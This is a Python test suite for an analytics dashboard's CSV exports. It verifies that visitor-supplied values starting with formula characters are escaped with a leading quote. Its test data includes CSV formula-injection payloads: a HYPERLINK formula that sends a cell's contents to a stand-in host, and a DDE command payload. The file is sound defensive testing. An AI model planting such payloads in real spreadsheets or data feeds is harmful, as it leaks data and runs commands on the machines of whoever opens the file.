"""The dashboards' CSV exports as a marketer opens them: in a spreadsheet, next to the panel."""

from __future__ import annotations

import csv
import datetime as dt
import io
from urllib.parse import quote

import pytest

from beacon.dashboard.views import plain

from .conftest import with_partners
from .test_dashboard import A_KEY, MALL, REGISTRY, sign_in

EVIL = ('=HYPERLINK("http://evil.test/?"&A1,"open")', "+cmd|' /C calc'!A0", "=1+1", "@SUM(A1)", "-2+3", "\tTAB", "\rCR")


@pytest.fixture
def dash(make_client, tmp_path):
    return with_partners(make_client, tmp_path, REGISTRY)


def rows(res) -> list[list[str]]:
    assert res.status_code == 200, res.text
    return list(csv.reader(io.StringIO(res.text)))


def visit(client, base: str, **utm: str) -> None:
    query = "&".join(f"utm_{k}={quote(v, safe='')}" for k, v in utm.items())
    res = client.get(f"{base}/p.gif?u=" + quote(f"https://shop.test/landing?{query}", safe=""))
    assert res.status_code == 200


def test_text_a_visitor_wrote_cannot_run_as_a_formula_in_the_csv(dash, flush):
    for i, value in enumerate(EVIL):
        visit(dash, MALL, source=value, campaign=value, content=str(i))
    res = dash.post("/e", json=[{"e": "signup", "u": "https://shop.test/", "p": {"plan": v}} for v in EVIL])
    assert res.status_code == 204, res.text
    assert flush() == 2 * len(EVIL)
    sign_in(dash)
    for panel, column in (("campaigns", "visit:utm_campaign"), ("sources", "visit:source"), ("props", "event:props:plan")):
        shown = sorted(r[0] for r in dash.get(f"/dashboard/api/panel/{panel}?period=day&prop=plan").json()["rows"])
        assert set(shown) >= set(EVIL[:5]), panel  # the page shows them as they are (ingest trims a leading tab or CR)
        table = rows(dash.get(f"/dashboard/api/csv/{panel}?period=day&prop=plan"))
        assert table[0][0] == column, panel
        assert sorted(r[0] for r in table[1:]) == sorted("'" + v if v.startswith(tuple("=+-@\t\r")) else v for v in shown), panel
        assert all(r[1] == "1" for r in table[1:]), panel  # the counts are still numbers


def test_a_partners_csv_is_guarded_too(dash, flush):
    visit(dash, "https://ads.a.test", campaign="=1+1")
    assert flush() == 1
    for base, prefix in (("https://ads.a.test", ""), (MALL, "/partners/a")):
        assert sign_in(dash, A_KEY, base=base, prefix=prefix).status_code == 303
        table = rows(dash.get(f"{base}{prefix}/dashboard/api/csv/campaigns?period=day"))
        assert table[1:] == [["'=1+1", "1"]]


def test_numbers_stay_numbers_in_the_csv():
    assert plain(-3) == -3 and plain(-0.5) == -0.5 and plain(0) == 0
    assert plain("-3") == "-3" and plain("-2.5") == "-2.5" and plain("+1e3") == "+1e3"  # a property's number stays one
    assert plain("-2+3") == "'-2+3" and plain("-3 ") == "'-3 " and plain("-") == "'-"  # anything else is kept text


def test_the_revenue_cells_say_what_the_card_says(dash, flush):
    """No purchase: 0, as the card shows; a purchase in the period before: its amount there."""
    order = {"e": "purchase", "u": "https://shop.test/thanks", "order_id": "A-1", "revenue": "12.50", "currency": "EUR"}
    assert dash.post("/e", json=[order]).status_code == 204
    assert flush() == 1
    sign_in(dash)
    today = dt.datetime.now(dt.timezone.utc).date()
    tomorrow = today + dt.timedelta(days=1)
    for query, current, previous in (
        ("period=day", "EUR 12.50", "0"),
        (f"period=custom&from={tomorrow}&to={tomorrow}", "0", "EUR 12.50"),  # today is the period before
    ):
        card = dash.get(f"/dashboard/api/panel/headline?{query}").json()
        table = {r[0]: r[1:] for r in rows(dash.get(f"/dashboard/api/csv/headline?{query}"))}
        assert table["total_revenue"] == [current, previous], query
        assert table["conversions"] == [str(card["current"]["conversions"]), str(card["previous"]["conversions"])], query
